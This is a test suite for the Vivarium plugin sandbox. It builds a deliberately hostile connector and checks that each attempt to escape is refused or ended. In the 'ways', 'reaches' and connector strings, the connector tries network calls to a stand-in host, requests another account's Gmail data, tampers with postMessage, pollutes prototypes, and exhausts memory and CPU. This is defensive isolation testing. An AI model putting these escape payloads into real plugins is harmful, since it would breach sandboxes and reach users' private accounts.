import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { startServer, type EmulatorServer } from '@vivarium/sdk/testing/emulator';
import type { Browser, Page } from 'playwright-core';
import { useCommandCenter } from './opening.js';
import type { Product } from './product.js';

const root = join(import.meta.dirname, '../..');

/** Ways out of a worker, as code. `AWAY` is a host that counts who comes. Each answers true where it believes that it got through. */
const ways: Record<string, string> = {
  'fetches': `await fetch('http://AWAY/', { mode: 'no-cors' }); return true;`,
  'asks with XMLHttpRequest': `return await new Promise((done, fail) => { const r = new XMLHttpRequest(); r.open('GET', 'http://AWAY/'); r.onload = () => done(true); r.onerror = () => fail(new Error('refused')); r.send(); });`,
  'opens a socket': `return await new Promise((done, fail) => { const s = new WebSocket('ws://AWAY/'); s.onopen = () => done(true); s.onerror = () => fail(new Error('refused')); });`,
  'listens to events': `return await new Promise((done, fail) => { const s = new EventSource('http://AWAY/'); s.onopen = () => done(true); s.onerror = () => fail(new Error('refused')); });`,
  'imports a script': `importScripts('http://AWAY/script.js'); return true;`,
  'imports a module': `await import('http://AWAY/script.js'); return true;`,
  'asks from a worker of its own': `return await new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://AWAY/', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => data ? done(true) : fail(new Error('refused')); w.onerror = () => fail(new Error('refused')); });`,
  'compiles text': `return new Function('return true')();`,
  'keeps something in a database': `return await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done(true); r.onerror = () => fail(r.error); });`,
  'keeps something in a cache': `await caches.open('x'); return true;`,
  'reads what the origin keeps': `return (await navigator.storage.estimate()).quota > 0;`,
  'talks to other workers': `new BroadcastChannel('x').postMessage(1); return true;`,
};
/** Which of them open a connection, which the host away would see. */
const connects = Object.keys(ways).filter((name) => ways[name]!.includes('AWAY'));

/** What a connector does to get at what is not its own, through the SDK and beneath it. */
const reaches: Record<string, string> = {
  'asks a host outside its contract': `await http.get('https://gmail.googleapis.com/gmail/v1/users/me/messages');`,
  'asks a path outside its contract': `await http.get('/secret');`,
  'asks by a method outside its contract': `await http.delete('/orders');`,
  'asks in another account’s name beneath the SDK': `return await beneath({ account: 'gmail-1', url: 'https://gmail.googleapis.com/gmail/v1/users/me/messages' });`,
  'asks in another account’s name for its own host': `return await beneath({ account: 'gmail-1', url: 'https://orders.example.com/orders', expected: true });`,
  'keeps more than it may': `await storage.set('large', 'x'.repeat(300_000));`,
  'keeps more values than it may': `for (let n = 0; n < 300; n += 1) await storage.set('key' + n, n);`,
  'keeps what is no JSON': `await storage.set('x', { __proto__: null, [Symbol.iterator]: 1, map: new Map() });`,
};

const contract = `
import { collection, defineContract } from '@vivarium/sdk/contract';
import { z } from 'zod';
const things = collection({ title: 'Things', item: z.object({ id: z.string() }), key: 'id', pace: { visible: 5, hidden: 3600 } });
export const hostile = defineContract({
  id: 'hostile', version: 1, title: 'Hostile', auth: { type: 'none' }, quota: { units: 1000, perSeconds: 1 }, collections: { things }, reads: {}, actions: {},
  network: [{ origin: 'https://orders.example.com', methods: ['GET', 'POST'], paths: ['/orders', '/reports'], harmless: true }],
});`;
const connector = `
import { implement } from '@vivarium/sdk/connector';
import { hostile } from './contract.js';
// As no author would: what the SDK sends is changed on its way, beneath it.
const send = MessagePort.prototype.postMessage;
let change;
MessagePort.prototype.postMessage = function (message, transfer) {
  if (change && message?.type === 'request') [message, change] = [{ ...message, ...change }, undefined];
  return send.call(this, message, transfer);
};
const kept = [];
const attacks = {
${Object.entries(ways).map(([name, code]) => `${JSON.stringify(name)}: async ({ away }) => { ${code.replace(/'([a-z]+):\/\/AWAY(\/[\w.]*)'/g, "`$1://${away}$2`").replaceAll("'http://AWAY/'", "'http://\" + away + \"/'")} },`).join('\n')}
${Object.entries(reaches).map(([name, code]) => `${JSON.stringify(name)}: async ({ http, storage, beneath }) => { ${code}; return true; },`).join('\n')}
  hang: () => { for (;;); },
  crash: () => { setTimeout(() => { throw new Error('planted'); }); return new Promise(() => undefined); },
  flood: () => { for (let n = 0; n < 20_000; n += 1) postMessage({ id: 'x', type: 'RAW', value: n }); return new Promise(() => undefined); },
  'flood its own port': async ({ storage }) => { await Promise.all(Array.from({ length: 20_000 }, () => storage.keys())); },
  forge: () => { const { port1 } = new MessageChannel(); postMessage({ id: 'x', type: 'HANDLER', name: 'proxy', value: port1 }, [port1]); return new Promise(() => undefined); },
  'throw through Comlink': () => { postMessage({ id: 'x', type: 'HANDLER', name: 'throw', value: { isError: false, value: 1 } }); return new Promise(() => undefined); },
  prototype: () => { postMessage({ id: 'x', type: 'RAW', value: JSON.parse('{"__proto__":{"polluted":true}}') }); return new Promise(() => undefined); },
  huge: () => { postMessage({ id: 'x', type: 'RAW', value: 'x'.repeat(3_000_000) }); return new Promise(() => undefined); },
  memory: () => { for (let n = 0; n < 20; n += 1) kept.push(new Uint8Array(20_000_000).fill(1)); return new Promise(() => undefined); },
  busy: () => { const { port1, port2 } = new MessageChannel(); port2.onmessage = () => { for (const end = Date.now() + 1000; Date.now() < end; ); send.call(port1, 0); }; send.call(port1, 0); return new Promise(() => undefined); },
};
export const connector = implement(hostile, {
  collections: {
    async *things({ http, storage }) {
      const { attack, away } = await http.get('/orders');
      if (!Object.hasOwn(attacks, attack)) { yield { upsert: [{ id: 'quiet' }], cursor: '1', last: true }; return; }
      const beneath = async ({ expected, ...changed }) => { change = changed; const { attack: told } = await http.get('/orders'); return expected ? 'as itself: ' + (told === attack) : true; };
      const outcome = await Promise.resolve().then(() => attacks[attack]({ away, http, storage, beneath })).then((value) => 'through ' + value, (error) => 'refused ' + (error.code ?? error.name ?? ''));
      await http.post('/reports', { attack, outcome });
      yield { upsert: [{ id: 'quiet' }], cursor: '1', last: true };
    },
  },
  reads: {},
  actions: {},
});`;

let work: string;
let emulator: EmulatorServer;
let away: Server;
let arrived = 0;
let order = '';
const reports = new Map<string, string>();
let reported: () => void = () => undefined;
let product: Product;
let browser: Browser;
let page: Page;

const awayHost = () => `127.0.0.1:${(away.address() as AddressInfo).port}`;
const card = () => page.locator('viv-account-card').filter({ hasText: 'Hostile' });

async function vivarium(...args: string[]): Promise<string> {
  const child = spawn(process.execPath, [join(root, 'bin/vivarium.mjs'), 'plugin', ...args], { cwd: work, env: { ...process.env, VIVARIUM_VAULT: 'file' }, stdio: ['ignore', 'pipe', 'pipe'] });
  let output = '';
  for (const stream of [child.stdout, child.stderr]) stream.on('data', (chunk: Buffer) => (output += chunk.toString()));
  await once(child, 'close');
  return output;
}

/** Has the connector try something, and answers what it says of it. */
async function attempt(name: string): Promise<string> {
  reports.delete(name);
  order = name;
  const told = new Promise<void>((resolve) => (reported = () => reports.has(name) && resolve()));
  await card().getByRole('button', { name: 'Refresh' }).click();
  await told;
  order = '';
  return reports.get(name)!;
}

/** Has the connector do something that is to end it, and waits until the page names it. */
async function ends(name: string, named: RegExp): Promise<void> {
  order = name;
  await card().getByRole('button', { name: 'Refresh' }).click();
  await card().locator('dd').filter({ hasText: named }).waitFor({ timeout: 120_000 });
  order = '';
  // A try that had its order before may end it once more.
  const running = () => card().locator('dd').filter({ hasText: /^Running$/ });
  for (let tries = 0; tries < 5; tries += 1) {
    await card().getByRole('button', { name: 'Refresh' }).click();
    if (await running().waitFor({ timeout: 20_000 }).then(() => true, () => false)) break;
  }
  await running().waitFor();
}

describe('a hostile connector', { timeout: 600_000 }, () => {
  before(async () => {
    away = createServer((request, response) => {
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': request.url === '/script.js' ? 'text/javascript' : 'text/event-stream' }).end(request.url === '/script.js' ? '0;' : ':\n\n');
    });
    away.on('connection', () => (arrived += 1));
    away.listen(0, '127.0.0.1');
    await once(away, 'listening');
    emulator = await startServer({
      routes: {
        'GET /orders': () => ({ body: { attack: order, away: awayHost() } }),
        'POST /reports': ({ json }) => {
          const { attack, outcome } = json() as { attack: string; outcome: string };
          reports.set(attack, outcome);
          reported();
          return { status: 204 };
        },
      },
    });
    work = await mkdtemp(join(tmpdir(), 'vivarium-hostile-'));
    await writeFile(join(work, 'contract.ts'), contract);
    await writeFile(join(work, 'connector.ts'), `// @ts-nocheck\n${connector}`);
    await writeFile(join(work, 'plugin.json'), JSON.stringify({ format: 1, id: 'hostile', version: '1.0.0', title: 'Hostile', description: 'Tries everything.', author: 'A test', license: 'Apache-2.0', sdk: '^0.1.0' }));
    assert.match(await vivarium('manifest', work), /a connector/);
  });
  useCommandCenter(async (open) => {
    ({ product, browser, page } = open);
    await page.goto(`${product.origin}/#/settings`);
    const data = ['--data-dir', product.dataFolder];
    const hash = /sha256 ([0-9a-f]{64})/.exec(await vivarium('add', work, ...data))?.[1];
    assert.ok(hash);
    assert.match(await vivarium('add', work, '--yes', '--hash', hash, ...data), /is installed/);
    await card().locator('summary').click();
    await card().getByText(/^Live/).waitFor({ timeout: 60_000 });
  }, { start: () => ({ options: ['--emulator', `hostile=${emulator.origin}`] }) });
  after(async () => {
    await emulator?.close();
    away?.closeAllConnections();
    away?.close();
    await rm(work, { recursive: true, force: true });
  });

  for (const name of Object.keys(ways))
    it(`gets nowhere when it ${name}`, async () => {
      const before = arrived;
      assert.match(await attempt(name), /^refused/);
      assert.equal(arrived, before);
    });

  it('would get there where nothing holds', async () => {
    const control = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html>')).listen(0, '127.0.0.1');
    await once(control, 'listening');
    const free = await browser.newPage();
    try {
      await free.goto(`http://127.0.0.1:${(control.address() as AddressInfo).port}/`);
      for (const [name, code] of Object.entries(ways)) {
        const before = arrived;
        const worker = `onmessage = async () => postMessage(await (async () => { ${code.replaceAll('AWAY', awayHost())} })().then((value) => 'through ' + value, (error) => 'refused ' + error.name));`;
        const outcome = await free.evaluate(
          (text) => new Promise<string>((done) => {
            const one = new Worker(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
            one.onmessage = ({ data }) => (one.terminate(), done(data as string));
            one.onerror = ({ message }) => done(message);
            one.postMessage(0);
          }),
          worker,
        );
        // A socket needs a server that speaks its protocol; that somebody came is what counts.
        if (connects.includes(name)) assert.ok(arrived > before || /^through/.test(outcome), `${name}: ${outcome}`);
        else assert.match(outcome, /^through/, name);
      }
    } finally {
      await free.close();
      control.close();
      control.closeAllConnections();
    }
  });

  const codes: Record<string, RegExp> = {
    'asks a host outside its contract': /^refused blocked/,
    'asks a path outside its contract': /^refused blocked/,
    'asks by a method outside its contract': /^refused blocked/,
    'asks in another account’s name beneath the SDK': /^refused blocked/,
    'asks in another account’s name for its own host': /^through as itself: true/,
    'keeps more than it may': /^refused quota/,
    'keeps more values than it may': /^refused quota/,
  };
  for (const [name, expected] of Object.entries(codes))
    it(`is told no, or speaks for itself alone, when it ${name}`, async () => {
      assert.match(await attempt(name), expected);
    });

  for (const [name, named] of [
    ['crash', /it crashed/],
    ['hang', /it hung/],
    ['flood', /it flooded the page/],
    ['flood its own port', /it flooded the page/],
    ['forge', /it broke the rules/],
    ['throw through Comlink', /it broke the rules/],
    ['prototype', /it broke the rules/],
    ['huge', /it broke the rules/],
    ['keeps what is no JSON', /it broke the rules/],
    ['memory', /it took too much memory/],
    ['busy', /it kept the processor busy/],
  ] as const)
    it(`is ended by name, and the page goes on: ${name}`, async () => {
      await ends(name, named);
      assert.equal(await page.evaluate(() => ({} as Record<string, unknown>)['polluted']), undefined);
    });

  it('has taken nothing along: the page’s own accounts are as they were', async () => {
    for (const title of ['Gmail', 'Google Calendar', 'Notion']) await page.locator('viv-account-card').filter({ hasText: title }).getByText(/^Live/).waitFor();
  });
});
